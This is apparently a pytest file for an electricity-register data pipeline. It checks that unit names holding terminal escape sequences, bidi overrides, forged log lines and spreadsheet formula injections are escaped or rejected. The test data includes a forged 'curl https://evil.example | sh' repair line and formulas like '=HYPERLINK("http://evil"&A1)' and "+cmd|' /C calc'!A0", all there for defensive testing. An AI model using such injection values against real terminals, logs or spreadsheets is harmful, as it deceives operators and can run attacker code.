"""No text of a source is a command: to a terminal, a log, a script, a spreadsheet, a reader's eyes."""

from __future__ import annotations

import datetime as dt
import json

import msgspec
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from minerecon_dagster.alerts.text import message
from minerecon_dagster.cli.tables import Column, print_columns
from minerecon_dagster.core.errors import SchemaDriftError, one_line
from minerecon_dagster.core.printable import (
    for_a_spreadsheet,
    not_printed,
    printable,
    printable_lines,
    shown_url,
)
from minerecon_dagster.core.schema import parse_register

UNIT = {
    "nationalGridBmUnit": "ABC", "elexonBmUnit": "T_ABC-1", "eic": None, "fuelType": "WIND", "leadPartyName": "A",
    "bmUnitType": "T", "fpnFlag": True, "bmUnitName": "ABC", "generationCapacity": "1.5",
}  # fmt: skip
COMMANDS = {
    "an escape sequence that sets a title": "T_X-1\x1b]0;pwned\x07",
    "a sequence that clears the screen": "\x1b[2J\x1b[1;1H",
    "a sequence of one byte": "\x9b31m",
    "a bell": "a\x07",
    "a backspace": "abc\b\b\bxyz",
    "a forged line": "T_X-1\nRepair: `curl https://evil.example | sh`",
    "a forged line of an older Mac": "T_X-1\rall checks pass",
    "a tab": "a\tb",
    "a vertical tab": "a\vb",
    "a form feed": "a\fb",
    "NUL": "a\x00b",
    "delete": "a\x7fb",
    "next line": "a\x85b",
    "a line separator": "a\u2028b",
    "a paragraph separator": "a\u2029b",
    "right to left from here": "a\u202egnp.exe",
    "left to right from here": "\u202d",
    "an embedding": "\u202b",
    "the end of one": "\u202c",
    "an isolate": "\u2066",
    "the other isolate": "\u2067",
    "the first strong isolate": "\u2068",
    "the end of an isolate": "\u2069",
}
FORMULAS = {
    '=HYPERLINK("http://evil"&A1)': '\'=HYPERLINK("http://evil"&A1)',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1+1)": "'@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "=1": "'=1",
    "-A1": "'-A1",
    "--1": "'--1",
    "-12.50": "-12.50",
    "+3": "+3",
    "-1e-7": "-1e-7",
    "T_ABC-1": "T_ABC-1",
    "A = B": "A = B",
    "": "",
}


@pytest.mark.parametrize("text", COMMANDS.values(), ids=COMMANDS)
def test_what_a_terminal_or_a_log_would_obey_is_shown_and_not_done(text: str) -> None:
    shown = printable(text)
    assert shown.isprintable()
    assert "\n" not in shown
    assert one_line(ValueError(text)).isprintable()


@pytest.mark.parametrize("is_escaped", [True, False], ids=["as an escape", "as it is"])
@pytest.mark.parametrize("text", COMMANDS.values(), ids=COMMANDS)
def test_an_answer_with_such_a_text_is_drift_and_names_the_character(text: str, is_escaped: bool) -> None:
    body = json.dumps([UNIT | {"leadPartyName": text}], ensure_ascii=is_escaped).encode()
    with pytest.raises(
        SchemaDriftError, match=r"a text holds the character U\+[0-9A-F]{4}, which no name has"
    ) as raised:
        parse_register(body)
    assert str(raised.value).isprintable()


@pytest.mark.parametrize(
    "text",
    [
        "A & B",
        'Fällt \\ "zurück"',
        "é\u00e9",
        "風力",
        "Hornsea\u00a0One",
        "\U0001f32c",
        "a/b",
        "\\u001b",
        "\\n",
        "$x^{$ Farm",
    ],
)
def test_an_answer_with_an_unusual_name_is_taken_as_it_is(text: str) -> None:
    for body in (json.dumps([UNIT | {"bmUnitName": text}], ensure_ascii=e).encode() for e in (True, False)):
        assert parse_register(body)[0].bm_unit_name == text


def test_names_have_an_end() -> None:
    parse_register(json.dumps([UNIT | {"bmUnitName": "x" * 200}]).encode())
    with pytest.raises(SchemaDriftError, match="bmUnitName"):
        parse_register(json.dumps([UNIT | {"bmUnitName": "x" * 201}]).encode())


@pytest.mark.parametrize("body", [b"[" * 100_000, b'{"a":' * 100_000, b'[{"x":' + b"[" * 100_000])
def test_an_answer_that_is_deeper_than_anybody_reads_is_drift_and_no_crash(body: bytes) -> None:
    with pytest.raises(SchemaDriftError):
        parse_register(body)


@pytest.mark.parametrize(("text", "cell"), FORMULAS.items())
def test_a_text_is_no_formula_and_a_number_stays_a_number(text: str, cell: str) -> None:
    assert for_a_spreadsheet(text) == cell


def test_a_message_of_an_alert_has_the_lines_that_we_gave_it_and_no_others() -> None:
    found = message("failing", "one\ntwo \x1b[2J\u202e", now=dt.datetime.now(dt.UTC), is_synthetic=False)
    assert found.text == "failing: one\ntwo \\x1b[2J\\u202e"


@given(st.text())
@example("\ud800")
def test_whatever_it_is_one_line_that_prints(text: str) -> None:
    assert printable(text).isprintable()
    assert all(line.isprintable() for line in printable_lines(text).split("\n"))
    assert printable(printable(text)) == printable(text)


@given(st.text(alphabet=st.characters(exclude_categories=("Cs",))))
def test_the_characters_of_a_body_are_judged_alike_however_it_is_written(text: str) -> None:
    plain, escaped = (json.dumps(text, ensure_ascii=e).encode() for e in (False, True))
    assert (not_printed(plain) is None) == (not_printed(escaped) is None)
    assert (not_printed(msgspec.json.encode(text)) is None) == (not_printed(plain) is None)


@pytest.mark.parametrize("text", COMMANDS.values(), ids=COMMANDS)
def test_a_table_on_a_terminal_shows_what_it_would_have_to_obey(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """What was stored before names were looked at, or came another way."""
    print_columns([Column("unit", [text]), Column("MWh", ["-1.5"])], "title")
    shown = capsys.readouterr().out
    assert all(line.isprintable() for line in shown.split("\n"))
    assert "-1.5" in shown


@pytest.mark.parametrize(
    ("escape", "named"), [("b", "U+0008"), ("f", "U+000C"), ("n", "U+000A"), ("r", "U+000D"), ("t", "U+0009")]
)
def test_an_escape_of_json_is_told_by_the_character_that_it_stands_for(escape: str, named: str) -> None:
    assert not_printed(f'"a\\{escape}b"'.encode()) == named


def test_the_lines_and_tabs_between_the_parts_of_a_document_are_no_part_of_a_text() -> None:
    assert not_printed('{\r\n\t"name": "Moel Maelogan, Sir Ddinbych – gŵyl"\r\n}'.encode()) is None


def test_a_url_of_hundreds_of_units_is_shown_by_its_beginning_and_its_length() -> None:
    url = f"https://elexon/datasets/PN/stream?{'&'.join(f'bmUnit=T_FARM-{n}' for n in range(200))}"
    assert shown_url(url) == f"{url[:300]}… ({len(url):,} characters)"
    assert shown_url(url[:300]) == url[:300]
